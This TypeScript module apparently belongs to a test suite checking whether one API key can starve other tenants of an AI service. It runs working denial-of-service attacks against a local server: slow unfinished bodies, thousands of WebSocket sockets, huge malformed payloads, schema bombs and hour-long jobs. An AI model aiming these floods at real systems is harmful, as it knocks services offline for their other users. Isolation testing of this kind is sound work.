/** Attacks of one key on all other callers of a process, each as harmful as possible. All attacks end with their program. */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { request } from 'undici';

/** The target of the attacks, and the attackers' keys. */
export interface AttackTarget {
  origin: string;
  /** A key of the Free plan. */
  free: string;
  /** A key of a plan with agents, for the attacks that need one. */
  team: string;
  agentId: string;
  /** Pages that take long to read. */
  pages: string;
}

export type NeighbourAttack = (aim: AttackTarget) => Promise<unknown>;

const MB = 1_048_576;
const HOUR_MS = 3_600_000;
/** The pause after a refused call. */
const PAUSE_MS = 20;

/** Repeats calls, a number of them at the same time. */
const again = (width: number, call: () => Promise<unknown>): Promise<unknown> =>
  Promise.all(
    Array.from({ length: width }, async () => {
      for (;;)
        await call()
          .catch(() => null)
          .then(() => sleep(PAUSE_MS));
    }),
  );

const json = { 'content-type': 'application/json' };

async function post(url: string, key: string, body: string): Promise<void> {
  const headers = { ...json, authorization: `Bearer ${key}` };
  const answer = await request(url, { method: 'POST', headers, body });
  await answer.body.dump({ limit: 512 * MB });
}

const posts = (width: number, path: string, body: unknown): NeighbourAttack => {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  return ({ origin, free }) => again(width, () => post(`${origin}${path}`, free, text));
};

const chat = (more: object, content = 'Hi'): NeighbourAttack =>
  posts(4, '/api/v1/chat/completions', { messages: [{ role: 'user', content }], ...more });

/** Subscriptions that stay open. Their bodies use half of a key's limit, so that an older build also accepts all of them. */
const undeclared: NeighbourAttack = ({ origin, free }) => {
  const variables = { text: 'x'.repeat(20 * MB) };
  const body = JSON.stringify({ query: 'subscription { jobUpdates { type } }', variables });
  const headers = { ...json, authorization: `Bearer ${free}`, accept: 'text/event-stream' };
  return again(4, async () => {
    const answer = await request(`${origin}/graphql`, { method: 'POST', headers, body, bodyTimeout: 0 });
    if (answer.statusCode === 200) void answer.body.dump({ limit: MB }).catch(() => null);
    else await answer.body.dump();
    await sleep(200);
  });
};

/** A connection that sends a text and then stays open until the server closes it. */
function say(origin: string, words: (string | Buffer)[]): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(Number(new URL(origin).port), '127.0.0.1');
    socket.on('error', () => undefined).once('close', () => resolve());
    for (const word of words) socket.write(word);
    socket.resume();
  });
}

const unfinished: NeighbourAttack = ({ origin, free }) => {
  const head = `POST /graphql HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${free}\r\ncontent-type: application/json\r\ncontent-length: ${59 * MB}\r\n\r\n`;
  const most = Buffer.alloc(58 * MB, ' ');
  return again(12, () => say(origin, [head, most]));
};

const UPGRADE =
  'GET /graphql HTTP/1.1\r\nhost: a\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n' +
  'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-protocol: graphql-transport-ws\r\n\r\n';

/** A client's frame, with a mask of zeros. */
function frame(text: string): Buffer {
  const body = Buffer.from(text);
  return Buffer.concat([Buffer.from([0x81, 0xfe, body.length >> 8, body.length & 255, 0, 0, 0, 0]), body]);
}

const pad = (text: string): string => text.padEnd(126, ' ');

const keyed: NeighbourAttack = ({ origin, free }) => {
  const payload = { authorization: `Bearer ${free}` };
  const init = frame(pad(JSON.stringify({ type: 'connection_init', payload })));
  return again(4000, () => say(origin, [UPGRADE, init]));
};

const graphql = (aim: AttackTarget, key: string, body: object): Promise<void> =>
  post(`${aim.origin}/graphql`, key, JSON.stringify(body));

const runs =
  (input: (aim: AttackTarget) => string): NeighbourAttack =>
  (aim) =>
    again(4, () =>
      graphql(aim, aim.team, {
        query: 'mutation ($id: ID!, $input: RunAgentInput!) { runAgent(id: $id, input: $input) { id } }',
        variables: { id: aim.agentId, input: { input: input(aim) } },
      }),
    );

const delayedImages: NeighbourAttack = ({ origin, free }) => {
  const body = JSON.stringify({ prompt: `@sandbox{"delay_ms":${HOUR_MS}} a hill` });
  return again(4, () => post(`${origin}/api/v1/images/generations?async=true`, free, body));
};

/** The first bytes of Matroska, and then empty clusters. */
function webm(): string {
  const head = Buffer.from(
    '1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581021853806701ffffffffffffff',
    'hex',
  );
  const cluster = Buffer.from('1f43b67583e78100', 'hex');
  return Buffer.concat([head, Buffer.alloc(18 * MB, cluster)]).toString('base64');
}

const estimates: NeighbourAttack = (aim) => {
  const input = { transcription: { file: webm() } };
  return again(10, () =>
    graphql(aim, aim.free, {
      query: 'query ($input: EstimateInput!) { estimate(input: $input) { model } }',
      variables: { input },
    }),
  );
};

const schema = {
  type: 'object',
  properties: Object.fromEntries(Array.from({ length: 4000 }, (_, at) => [`k${at}`, {}])),
  allOf: Array.from({ length: 40_000 }, () => ({})),
};

export const NEIGHBOUR_ATTACKS: Record<string, NeighbourAttack> = {
  'undeclared variables over event streams': undeclared,
  'bodies that do not end': unfinished,
  'malformed JSON of 50 MB': posts(4, '/graphql', `{"query":"${'x'.repeat(50 * MB)}`),
  'a schema of 40,000 parts': chat({
    response_format: { type: 'json_schema', json_schema: { name: 'a', schema } },
  }),
  'combining marks': chat({ max_tokens: 5 }, '\u0301'.repeat(64_000)),
  'base64 with line breaks': posts(4, '/api/v1/images/edits?async=true', {
    operation: 'superResolution',
    image: `iVBORw0KGgo${'A\n'.repeat(4 * MB)}`,
  }),
  'image jobs that wait an hour': delayedImages,
  'runs that wait an hour': runs(() => `@sandbox{"delay_ms":${HOUR_MS}}`),
  'estimates of WebM': estimates,
  'pages that take long to read': runs(({ pages }) => {
    const call = { name: 'web_fetch', arguments: { url: `${pages}/${Math.random()}` } };
    return `@sandbox${JSON.stringify({ steps: [{ tool_call: call }] })}`;
  }),
  '4,000 sockets of a key': keyed,
  '4,000 sockets without a key': ({ origin }) => again(4000, () => say(origin, [UPGRADE])),
};
